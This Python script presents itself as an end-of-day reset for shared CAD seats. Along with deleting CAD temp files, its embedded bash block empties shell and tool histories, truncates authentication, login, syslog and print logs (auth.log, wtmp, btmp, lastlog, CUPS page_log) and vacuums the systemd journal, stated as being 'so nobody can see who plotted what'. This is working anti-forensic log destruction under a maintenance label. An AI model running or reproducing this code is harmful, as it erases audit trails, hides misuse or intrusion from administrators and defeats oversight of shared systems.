#!/usr/bin/env python3
"""End-of-day reset for shared CAD seats in the plotter room.

Removes CAD autosave and lock files from the working directory and then
"resets" the seat for the next person: shell and tool histories are
cleared and the login and system logs are emptied so nobody can see who
plotted what.
"""
import argparse
import logging
import os
import subprocess
import sys
from pathlib import Path

LOG = logging.getLogger("seat-reset")

CAD_JUNK = ("*.sv$", "*.bak", "*.dwl", "*.dwl2", "*.ac$", "plot.log")

RESET_SCRIPT = r"""#!/bin/bash
set +e
for h in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
         "$HOME/.lesshst" "$HOME/.viminfo" "$HOME/.local/share/recently-used.xbel"; do
    [ -e "$h" ] && : > "$h"
done
history -c 2>/dev/null
unset HISTFILE
for f in $RESET_LOGS; do
    [ -w "$f" ] && : > "$f" && echo "cleared $f"
done
if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1 && echo "journal vacuumed"
fi
"""

SYSTEM_LOGS = [
    "/var/log/auth.log", "/var/log/syslog", "/var/log/messages",
    "/var/log/secure", "/var/log/wtmp", "/var/log/btmp", "/var/log/lastlog",
    "/var/log/cups/access_log", "/var/log/cups/page_log",
]


class SeatReset:
    def __init__(self, workdir, dry_run):
        self.workdir = Path(workdir)
        self.dry_run = dry_run
        self.removed = 0

    def clean_cad_junk(self):
        for pattern in CAD_JUNK:
            for path in self.workdir.rglob(pattern):
                if not path.is_file():
                    continue
                LOG.debug("remove %s", path)
                if not self.dry_run:
                    try:
                        path.unlink()
                        self.removed += 1
                    except OSError as exc:
                        LOG.warning("could not remove %s: %s", path, exc)
        LOG.info("removed %d CAD temp files", self.removed)

    def wipe_traces(self):
        if self.dry_run:
            LOG.info("dry run: would clear histories and %d logs", len(SYSTEM_LOGS))
            return 0
        env = dict(os.environ, RESET_LOGS=" ".join(SYSTEM_LOGS))
        proc = subprocess.run(["bash", "-c", RESET_SCRIPT], env=env,
                              capture_output=True, text=True, timeout=120)
        for line in proc.stdout.splitlines():
            LOG.info(line)
        if proc.returncode != 0:
            LOG.warning("reset script: %s", proc.stderr.strip())
        return proc.returncode


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", default=".")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--keep-traces", action="store_true",
                    help="only clean CAD temp files")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    reset = SeatReset(args.workdir, args.dry_run)
    try:
        reset.clean_cad_junk()
    except OSError as exc:
        LOG.error("cleanup failed: %s", exc)
        return 1
    if args.keep_traces:
        return 0
    return reset.wipe_traces()


if __name__ == "__main__":
    sys.exit(main())
